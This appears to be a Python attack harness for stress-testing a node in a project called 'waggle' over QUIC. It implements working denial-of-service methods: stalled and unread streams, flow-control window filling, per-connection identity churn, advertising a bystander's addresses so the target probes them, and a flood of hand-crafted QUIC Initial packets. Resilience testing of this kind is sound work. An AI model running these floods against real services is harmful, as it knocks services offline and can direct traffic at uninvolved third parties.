"""Strangers who attack one node over QUIC, with clients of their own.

`attacker.py ATTACK PEER_ID SOCKET SECONDS OWN_ADDRESSES`
"""

import asyncio
import json
import os
import socket
import struct
import sys
import time
from contextlib import suppress
from typing import Any

from cryptography.hazmat.primitives import hashes, hmac
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
from cryptography.hazmat.primitives.ciphers.aead import AESGCM
from cryptography.hazmat.primitives.kdf.hkdf import HKDFExpand
from iroh import Endpoint, EndpointAddr, EndpointId, EndpointOptions, IrohError

from waggle.network.transport.iroh.binding import PROTOCOL, Private
from waggle.network.transport.iroh.wire import request

SALT = bytes.fromhex("38762cf7f55934b34d179ae6a4c80cadccbb7f0a")  # RFC 9001, 5.2
CONNECTIONS = 50
RATE = 2000.0  # half handshakes a second


class Attacker:
    def __init__(self, peer_id: bytes, target: str, seconds: float, own: list[str]) -> None:
        self.target, self.own, self.end = target, own, time.monotonic() + seconds
        self.address = EndpointAddr(EndpointId.from_bytes(peer_id[6:]), None, [target])
        self.resources: list[Any] = []
        self.done: dict[str, float] = {"connections": 0, "streams": 0, "sent_mb": 0.0, "failed": 0}

    @property
    def runs(self) -> bool:
        return time.monotonic() < self.end

    async def endpoint(self) -> Any:
        return await Endpoint.bind(EndpointOptions(preset=Private((f"{self.own[0]}:0", "[::1]:0")), alpns=[PROTOCOL]))

    async def links(self, work: Any) -> None:
        """Keep many connections, and do something on each of them for as long as the attack lasts."""
        endpoint = await self.endpoint()

        async def one_link() -> None:
            while self.runs:
                try:
                    async with asyncio.timeout(5):
                        link = await endpoint.connect(self.address, PROTOCOL)
                    self.done["connections"] += 1
                    self.resources.append(link)
                    await work(link)
                except (IrohError, TimeoutError):
                    self.done["failed"] += 1
                await asyncio.sleep(0.2)

        await asyncio.gather(*(one_link() for _ in range(CONNECTIONS)))

    async def stalled(self) -> None:
        """As many streams as there are, each with 4 bytes and no end."""

        async def work(link: Any) -> None:
            while self.runs:
                async with asyncio.timeout(10):
                    stream = await link.open_bi()
                    await stream.send().write_all(b"\x04giv")
                self.resources.append(stream)
                self.done["streams"] += 1

        await self.links(work)

    async def one_way(self) -> None:
        """Unread one-way streams, filled as far as the window allows, opened at once after the handshake."""
        await self.links(lambda link: self._fill(link, link.open_uni))

    async def windows(self) -> None:
        """Streams with requests that never end."""

        async def opened(link: Any) -> Any:
            return (await link.open_bi()).send()

        await self.links(lambda link: self._fill(link, lambda: opened(link)))

    async def _fill(self, _link: Any, open_stream: Any) -> None:
        async def fill() -> None:
            with suppress(IrohError, TimeoutError):
                async with asyncio.timeout(10):
                    stream = await open_stream()
                self.resources.append(stream)
                self.done["streams"] += 1
                while self.runs:
                    async with asyncio.timeout(10):
                        self.done["sent_mb"] += await stream.write(b"x" * 65536) / 1e6

        await asyncio.gather(*(fill() for _ in range(100)))

    async def unread(self) -> None:
        """Ask for 2 MB again and again, and read nothing."""

        async def work(link: Any) -> None:
            while self.runs:
                async with asyncio.timeout(10):
                    stream = await link.open_bi()
                    await stream.send().write_all(request("give", b"2000000"))
                    await stream.send().finish()
                self.resources.append(stream)
                self.done["streams"] += 1

        await self.links(work)

    async def identities(self) -> None:
        """A new key for each connection, from all addresses."""
        number = 0
        while self.runs:
            own = self.own[number % len(self.own)]
            number += 1
            try:
                endpoint = await Endpoint.bind(EndpointOptions(preset=Private((f"{own}:0", "[::1]:0")), alpns=[PROTOCOL]))
                async with asyncio.timeout(3):
                    link = await endpoint.connect(self.address, PROTOCOL)
                    stream = await link.open_bi()
                    await stream.send().write_all(b"\x04giv")
                self.resources += [link, stream]
                self.done["connections"] += 1
                if number % 3:  # the endpoint goes without a word, as a stranger's does
                    self.resources.append(endpoint)
                else:
                    await endpoint.close()
            except (IrohError, TimeoutError):
                self.done["failed"] += 1

    async def bystander(self) -> None:
        """Claim to be at the sockets of somebody else, `own[1:]`, which QUIC's address discovery then probes."""
        endpoint = await self.endpoint()
        for index in range(16):
            with suppress(IrohError):
                await endpoint.add_external_addr(f"{self.own[1]}:{9000 + index}")
        while self.runs:
            try:
                async with asyncio.timeout(3):
                    link = await endpoint.connect(self.address, PROTOCOL)
                self.done["connections"] += 1
                await asyncio.sleep(0.5)
                link.close(0, b"")
            except (IrohError, TimeoutError):
                self.done["failed"] += 1
                await asyncio.sleep(0.5)

    async def half_handshakes(self) -> None:
        """First packets of handshakes that never go on, from all addresses."""
        sockets = []
        for own in self.own:
            each = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            each.bind((own, 0))
            each.setblocking(False)
            sockets.append(each)
        host, port = self.target.split(":")
        packets = [first_packet() for _ in range(3000)]
        number, started = 0, time.monotonic()
        while self.runs:
            with suppress(BlockingIOError):
                sockets[number % len(sockets)].sendto(
                    packets[number % 3000] if number < 3000 else first_packet(), (host, int(port))
                )
            number += 1
            ahead = number / RATE - (time.monotonic() - started)
            if ahead > 0.005:
                await asyncio.sleep(ahead)
        self.done["streams"] = number


def first_packet() -> bytes:
    """A QUIC v1 Initial with a ping and nothing else (RFC 9001, appendix A)."""
    name = os.urandom(8)
    extract = hmac.HMAC(SALT, hashes.SHA256())
    extract.update(name)
    secret = _expand(extract.finalize(), b"client in", 32)
    key, vector, protection = _expand(secret, b"quic key", 16), _expand(secret, b"quic iv", 12), _expand(secret, b"quic hp", 16)
    head = bytes([0xC3]) + b"\0\0\0\1" + bytes([8]) + name + bytes([8]) + os.urandom(8) + b"\0"
    body = 1200 - len(head) - 2
    head += struct.pack(">H", 0x4000 | body) + b"\0\0\0\0"
    content = AESGCM(key).encrypt(vector, b"\x01" + b"\0" * (body - 4 - 16 - 1), head)
    mask = Cipher(algorithms.AES(protection), modes.ECB()).encryptor().update(content[:16])
    packet = bytearray(head + content)
    packet[0] ^= mask[0] & 0x0F
    for index in range(4):
        packet[len(head) - 4 + index] ^= mask[1 + index]
    return bytes(packet)


def _expand(secret: bytes, label: bytes, size: int) -> bytes:
    name = b"tls13 " + label
    return HKDFExpand(hashes.SHA256(), size, struct.pack(">H", size) + bytes([len(name)]) + name + b"\0").derive(secret)


async def main() -> None:
    attack, peer_id, target, seconds, own = sys.argv[1:]
    attacker = Attacker(bytes.fromhex(peer_id), target, float(seconds), own.split(","))
    with suppress(TimeoutError):
        async with asyncio.timeout(float(seconds) + 2):
            await getattr(attacker, attack)()
    print(json.dumps(attacker.done), flush=True)
    os._exit(0)


asyncio.run(main())
